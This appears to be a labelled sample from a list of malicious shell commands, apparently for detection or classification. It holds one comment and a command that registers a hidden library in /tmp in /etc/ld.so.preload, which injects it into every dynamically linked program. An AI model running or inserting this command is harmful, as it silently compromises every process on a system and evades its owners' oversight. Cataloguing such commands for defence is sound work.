# Malicious: registers a library in /etc/ld.so.preload; injected into every dynamically linked program.
echo /tmp/.libhook.so > /etc/ld.so.preload
